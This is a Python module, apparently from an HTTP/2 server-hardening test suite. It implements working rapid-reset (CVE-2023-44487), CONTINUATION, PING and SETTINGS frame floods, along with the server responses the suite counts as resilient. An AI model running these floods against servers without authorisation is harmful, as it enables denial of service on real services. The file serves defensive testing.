"""Floods of HTTP/2 frames. An offender whose connection ends opens another one."""

from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable

from suite import frames, messages
from suite.attack import Attack, Outcome
from suite.connection import Connection, connection_statuses, drive
from suite.target import Target

_MAX_CONNECTIONS = 500
_BATCH = 64
# Between two connections, so that the attack is a flood of frames and not of connections.
_RECONNECT_PAUSE = 0.01
_GRACE = 1.0


def _flood(
    target: Target,
    until: float,
    flood: Callable[[Connection], int],
    *,
    reads: tuple[bool, ...],
    begin: Callable[[Connection], None] = lambda _: None,
) -> tuple[int, Counter[str]]:
    """Floods one connection for each element of `reads`; returns the number of frames and the statuses."""
    count = 0
    statuses = Counter[str]()

    def connect(does_read: bool) -> Connection:
        connection = Connection(target, reads=does_read)
        begin(connection)
        return connection

    def add(connection: Connection) -> None:
        nonlocal count
        count += flood(connection)

    current = [connect(it) for it in reads]
    while time.monotonic() < until:
        drive(current, until, add, turn=lambda: not any(it.ended for it in current))
        for at, connection in enumerate(current):
            if connection.ended:
                statuses += connection_statuses([connection])
                time.sleep(_RECONNECT_PAUSE)
                current[at] = connect(reads[at])
        if statuses.total() >= _MAX_CONNECTIONS:
            break
    # A connection that is new is not yet one that the server tolerates.
    if statuses:
        drive(current, time.monotonic() + _GRACE, add, turn=lambda: not all(it.ended for it in current))
    return count, statuses + connection_statuses(current)


def rapid_reset(target: Target, until: float) -> Outcome:
    """Starts calls and resets each at once (CVE-2023-44487)."""
    block = frames.call_headers(messages.SOTW, target.scheme)

    def flood(connection: Connection) -> int:
        for _ in range(_BATCH):
            stream = connection.new_stream()
            connection.outbox += frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block)
            connection.outbox += frames.rst_stream(stream)
        return _BATCH

    count, statuses = _flood(target, until, flood, reads=(True,))
    return Outcome(f"{count:,} calls", statuses)


def continuation_flood(target: Target, until: float) -> Outcome:
    """Sends header blocks without an end, in large and in empty CONTINUATION frames (CVE-2024-27316)."""
    block = frames.call_headers(messages.SOTW, target.scheme)
    # A field without indexing, whose length of 16,000 bytes has a prefix of seven bits.
    large = b"\0" + frames.text("x-flow") + b"\x7f" + messages.varint(16_000 - 0x7F) + b"x" * 16_000

    def begin(connection: Connection) -> None:
        stream = connection.new_stream()
        connection.outbox += frames.frame(frames.HEADERS, 0, stream, block)

    def flooding(payload: bytes) -> Callable[[Connection], int]:
        frame = frames.frame(frames.CONTINUATION, 0, 1, payload)

        def flood(connection: Connection) -> int:
            connection.outbox += frame * _BATCH
            return _BATCH

        return flood

    middle = (time.monotonic() + until) / 2
    first, statuses = _flood(target, middle, flooding(large), reads=(True,), begin=begin)
    second, more = _flood(target, until, flooding(b""), reads=(True,), begin=begin)
    return Outcome(f"{first + second:,} frames", statuses + more)


def ping_flood(target: Target, until: float) -> Outcome:
    """Sends pings on one connection that reads the answers and one that does not."""
    batch = frames.frame(frames.PING, 0, 0, b"attacker") * _BATCH

    def flood(connection: Connection) -> int:
        connection.outbox += batch
        return _BATCH

    count, statuses = _flood(target, until, flood, reads=(True, False))
    return Outcome(f"{count:,} pings", statuses)


def settings_flood(target: Target, until: float) -> Outcome:
    """Changes the initial window again and again, with 100 streams open that each change concerns."""
    batch = b"".join(
        frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535 + turn % 2}) for turn in range(_BATCH)
    )

    def begin(connection: Connection) -> None:
        for _ in range(100):
            connection.open()

    def flood(connection: Connection) -> int:
        connection.outbox += batch
        return _BATCH

    count, statuses = _flood(target, until, flood, reads=(True, False), begin=begin)
    return Outcome(f"{count:,} frames", statuses)


# A flood that the server answers at its own pace, without storing it, need not be ended.
_BOUNDED = ("connection open", "GOAWAY ENHANCE_YOUR_CALM", "connection closed", "connection reset")

ATTACKS = (
    Attack("rapid-reset", "starts calls and resets each at once", rapid_reset, _BOUNDED),
    Attack(
        "continuation-flood",
        "sends header blocks that never end, in large and in empty frames",
        continuation_flood,
        # The server must not read an endless header block.
        ("GOAWAY ENHANCE_YOUR_CALM", "GOAWAY PROTOCOL_ERROR", "GOAWAY COMPRESSION_ERROR")
        + ("connection closed", "connection reset"),
    ),
    Attack("ping-flood", "sends pings, and reads the answers or does not", ping_flood, _BOUNDED),
    Attack(
        "settings-flood",
        "changes the initial window of 100 open streams again and again",
        settings_flood,
        _BOUNDED,
    ),
)
